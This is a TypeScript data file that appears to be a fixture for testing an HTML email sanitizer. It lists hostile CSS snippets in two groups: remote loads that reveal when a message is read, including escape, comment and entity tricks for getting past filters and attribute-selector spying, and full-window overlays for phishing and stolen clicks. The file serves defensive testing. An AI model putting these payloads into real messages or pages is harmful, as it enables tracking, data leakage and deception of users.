/** CSS that loads, that spies, and that leaves its place. */
import type { Family } from './hostile-mail.ts';

const LOADS: Family = {
  family: 'CSS that loads',
  danger: 'tells the sender that, when and where the message was read, though pictures are off',
  tricks: [
    ['a background', '<p style="background:url(https://HOST/a.png)">a</p>'],
    ['a background image in quotes', '<p style=\'background-image:url("https://HOST/a.png")\'>a</p>'],
    ['a background without scheme', '<p style="background:url(//HOST/a.png)">a</p>'],
    ['upper case', '<p style="BACKGROUND:URL(HTTPS://HOST/a.png)">a</p>'],
    ['url( never closed', '<p style="background:url(https://HOST/a.png">a</p>'],
    ['url( never closed in a sheet', '<style>p{background:url(https://HOST/a.png</style><p>a</p>'],
    ['a quote never closed', '<p style="background:url(\'https://HOST/a.png)">a</p>'],
    ['an escape in url', '<p style="background:u\\72l(https://HOST/a.png)">a</p>'],
    ['an escape in the scheme', '<p style="background:url(\\68ttps://HOST/a.png)">a</p>'],
    ['an escape in the property', '<p style="b\\61 ckground:url(https://HOST/a.png)">a</p>'],
    ['an escaped line break', '<p style="background:u\\\nrl(https://HOST/a.png)">a</p>'],
    ['a comment in the value', '<p style="background:/**/url(/**/https://HOST/a.png)">a</p>'],
    [
      'a comment in the name',
      '<p style="back/**/ground:url(https://HOST/a.png);background:u/**/rl(https://HOST/b.png)">a</p>',
    ],
    ['an entity in the value', '<p style="background&colon;url&lpar;https://HOST/a.png&rpar;">a</p>'],
    ['a variable', '<style>:root{--x:url(https://HOST/a.png)}p{background:var(--x)}</style><p>a</p>'],
    ['a variable in the attribute', '<p style="--x:url(https://HOST/a.png);background:var(--x)">a</p>'],
    ['a fallback of a variable', '<p style="background:var(--none,url(https://HOST/a.png))">a</p>'],
    ['image-set', '<p style="background:image-set(\'https://HOST/a.png\' 1x)">a</p>'],
    ['-webkit-image-set', '<p style="background:-webkit-image-set(url(https://HOST/a.png) 1x)">a</p>'],
    ['image()', '<p style="background:image(\'https://HOST/a.png\')">a</p>'],
    [
      'cross-fade',
      '<p style="background:-webkit-cross-fade(url(https://HOST/a.png),url(https://HOST/b.png),50%)">a</p>',
    ],
    ['src()', '<p style="background:src(\'https://HOST/a.png\')">a</p>'],
    [
      'a list bullet',
      '<ul style="list-style:url(https://HOST/a.png)"><li style="list-style-image:url(https://HOST/b.png)">a</ul>',
    ],
    ['a cursor', '<p style="cursor:url(https://HOST/a.cur),auto">a</p>'],
    ['content', '<style>p::before{content:url(https://HOST/a.png)}</style><p>a</p>'],
    ['a border picture', '<p style="border:9px solid;border-image:url(https://HOST/a.png) 9">a</p>'],
    ['a mask', '<p style="-webkit-mask:url(https://HOST/a.svg#m);mask-image:url(https://HOST/b.png)">a</p>'],
    ['a filter', '<p style="filter:url(https://HOST/a.svg#f);backdrop-filter:url(https://HOST/b.svg#f)">a</p>'],
    ['a clip path', '<p style="clip-path:url(https://HOST/a.svg#c)">a</p>'],
    ['a shape', '<p style="float:left;shape-outside:url(https://HOST/a.png)">a</p>'],
    ['an offset path', '<p style="offset-path:url(https://HOST/a.svg#p)">a</p>'],
    ['import', '<style>@import url(https://HOST/a.css);</style>'],
    ['import as a string', '<style>@import "https://HOST/a.css";p{}</style>'],
    ['import with an escape', '<style>@\\69mport "https://HOST/a.css";</style>'],
    ['import with a comment', '<style>@import/**/"https://HOST/a.css";</style>'],
    ['import in a layer', '<style>@import "https://HOST/a.css" layer(x) supports(display:grid);</style>'],
    ['import behind a character set', '<style>@charset "utf-7";@import "https://HOST/a.css";</style>'],
    ['import behind an HTML comment', '<style><!--\n@import "https://HOST/a.css";\n--></style>'],
    ['a namespace', '<style>@namespace "https://HOST/a";p{background:url(https://HOST/b.png)}</style><p>a</p>'],
    ['a font', '<style>@font-face{font-family:x;src:url(https://HOST/a.woff2)}p{font-family:x}</style><p>a</p>'],
    [
      'a local font, then another',
      '<style>@font-face{font-family:x;src:local(none),url(https://HOST/a.woff) format("woff")}p{font:9px x}</style><p>a</p>',
    ],
    [
      'a font that tells letters apart',
      '<style>@font-face{font-family:x;src:url(https://HOST/A);unicode-range:U+41}p{font-family:x}</style><p>A</p>',
    ],
    ['in a media query', '<style>@media screen{p{background:url(https://HOST/a.png)}}</style><p>a</p>'],
    [
      'in supports, layer, container and scope',
      '<style>@supports(color:red){p{background:url(https://HOST/a.png)}}@layer x{p{background:url(https://HOST/b.png)}}@container(width>0){p{background:url(https://HOST/c.png)}}@scope(body){p{background:url(https://HOST/d.png)}}</style><p>a</p>',
    ],
    [
      'nested rules',
      '<style>p{color:red;&{background:url(https://HOST/a.png)}b{background:url(https://HOST/b.png)}}</style><p>a<b>b</b></p>',
    ],
    [
      'key frames',
      '<style>@keyframes k{from{background:url(https://HOST/a.png)}to{background:url(https://HOST/b.png)}}p{animation:k 1s}</style><p>a</p>',
    ],
    [
      'a counter style',
      '<style>@counter-style c{system:cyclic;symbols:url(https://HOST/a.png)}li{list-style:c}</style><ul><li>a</ul>',
    ],
    [
      'a registered property',
      '<style>@property --x{syntax:"<image>";inherits:true;initial-value:url(https://HOST/a.png)}p{background:var(--x)}</style><p>a</p>',
    ],
    [
      'attribute selectors that spy',
      '<style>a[href^="https://a"]{background:url(https://HOST/a)}a[href*=b]{background:url(https://HOST/b)}</style><a href="https://a.example/b">a</a>',
    ],
    [
      'has() that spies',
      '<style>html:has(a[href*=b]){background:url(https://HOST/a)}</style><a href="https://a.example/b">a</a>',
    ],
    [
      'visited links',
      '<style>a:visited{background:url(https://HOST/a)}a:link{background:url(https://HOST/b)}</style><a href="https://a.example/">a</a>',
    ],
    [
      'hover, focus, target',
      '<style>p:hover{background:url(https://HOST/a)}*:focus-within{background:url(https://HOST/b)}:target{background:url(https://HOST/c)}</style><p>a</p>',
    ],
    [
      'the printer',
      '<style>@media print{body{background:url(https://HOST/a)}}@page{background:url(https://HOST/b)}</style><p>a</p>',
    ],
    ['an expression', '<p style="width:expression(RUN())">a</p>'],
    ['a binding', '<p style="-moz-binding:url(https://HOST/a.xml#x);behavior:url(https://HOST/b.htc)">a</p>'],
    ['a script address', '<p style="background:url(javascript:RUN())">a</p>'],
    [
      'a sheet that ends the element',
      '<style>p{}</sty\0le></style><img src="https://HOST/a.png"><style>*{background:url(https://HOST/b.png)}',
    ],
    [
      'a sheet of another type',
      '<style type="text/x" media="none,all">p{background:url(https://HOST/a.png)}</style><p>a</p>',
    ],
    ['a sheet in an attribute', '<p class="x"style="x:expression(1);background:url(https://HOST/a.png)">a</p>'],
    [
      'brackets that do not fit',
      '<style>p{background:url(https://HOST/a.png))}{(}[}]p{background:url(https://HOST/b.png)}</style><p>a</p>',
    ],
    ['a NUL', '<p style="background:u\0rl(https://HOST/a.png);background:url(\0https://HOST/b.png)">a</p>'],
    ['white space of all kinds', '<p style="background:url(\t\n\f https://HOST/a.png \f\n\t)">a</p>'],
    ['a data sheet', '<link rel=stylesheet href="data:text/css,@import%20%22https://HOST/a.css%22">'],
  ],
};

const OVERLAYS: Family = {
  family: 'overlays',
  danger: 'draws over the app, to pass for it or to steal a click',
  tricks: [
    [
      'fixed',
      '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:2147483647">Sign in again</div>',
    ],
    ['fixed, important', '<div style="position:fixed !important;inset:0!important;background:red;z-index:99">a</div>'],
    [
      'fixed in a sheet',
      '<style>div{position:fixed!important;top:0;left:0;right:0;bottom:0;background:red}</style><div>a</div>',
    ],
    ['fixed with an escape', '<div style="posi\\74ion:fixed;inset:0;background:red">a</div>'],
    ['fixed with a comment', '<div style="position:/**/fixed;inset:0;background:red">a</div>'],
    ['fixed by a variable', '<div style="--p:fixed;position:var(--p);inset:0;background:red">a</div>'],
    [
      'absolute',
      '<div style="position:absolute;top:-500px;left:-500px;width:5000px;height:5000px;background:red">a</div>',
    ],
    ['sticky', '<div style="position:sticky;top:-900px;height:900px;background:red">a</div>'],
    ['negative margins', '<div style="margin:-900px;padding:900px;background:red">a</div>'],
    ['a transform', '<div style="transform:translate(-900px,-900px) scale(50);background:red">a</div>'],
    ['translate and scale', '<div style="translate:-900px -900px;scale:50;background:red">a</div>'],
    ['a zoom', '<div style="zoom:50;background:red">a</div>'],
    ['a huge shadow', '<div style="box-shadow:0 0 0 9999px red">a</div>'],
    ['a huge outline', '<div style="outline:9999px solid red">a</div>'],
    ['a huge text shadow', '<p style="text-shadow:-900px -900px 0 red,0 -500px 99px red;font-size:200px">a</p>'],
    ['huge letters', '<p style="font-size:99999px;line-height:99999px">a</p>'],
    ['a huge box', '<div style="width:999999999px;height:999999999px;background:red">a</div>'],
    [
      'a huge picture',
      '<img width=999999 height=999999 style="max-width:none!important" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7">',
    ],
    [
      'the height of the window',
      '<style>html,body{height:100vh;min-height:110vh}</style><div style="height:100vh;min-height:100dvh">a</div>',
    ],
    [
      'more than its frame',
      '<style>html,body{height:110%!important;min-height:calc(100% + 50px)!important}</style><div style="height:110%">a</div>',
    ],
    [
      'a height that depends on itself',
      '<style>div{height:100px}@media(max-height:400px){div{height:900px}}@media(min-height:401px){div{height:100px}}</style><div>a</div>',
    ],
    ['letters as high as the window', '<p style="font-size:50vh;line-height:50vmax">a</p>'],
    [
      'the top layer',
      '<dialog open style="position:fixed;inset:0;width:100vw;height:100vh">a</dialog><p popover=manual>b</p>',
    ],
    [
      'a dialog that opens by itself',
      '<button command=show-modal commandfor=d autofocus>b</button><dialog id=d>a</dialog>',
    ],
    [
      'a body that is hidden',
      '<style>html,body{display:none!important;visibility:hidden!important;opacity:0!important}</style><p>a</p>',
    ],
    [
      'a body that floats',
      '<style>body{float:right;position:absolute!important;width:1px;margin:-900px!important;padding:900px}</style><p>a</p>',
    ],
    ['a full screen', '<iframe allowfullscreen allow="fullscreen" src="https://HOST/a"></iframe>'],
    [
      'an anchor to the page',
      '<div style="position:absolute;anchor-name:--a;position-anchor:--a;top:anchor(--a top)">a</div>',
    ],
    [
      'a view transition',
      '<style>@view-transition{navigation:auto}::view-transition{background:red}p{view-transition-name:root}</style><p>a</p>',
    ],
    ['a cursor that is not where it seems', '<p style="cursor:none;pointer-events:none;user-select:none">a</p>'],
    [
      'a scroll that never ends',
      '<style>html{scroll-snap-type:both mandatory;overscroll-behavior:none;overflow:scroll!important}</style><p style="scroll-margin:-9999px">a</p>',
    ],
    ['colours of the system', '<p style="background:Canvas;color:Canvas;accent-color:red;color-scheme:dark">a</p>'],
  ],
};

export const styles: readonly Family[] = [LOADS, OVERLAYS];
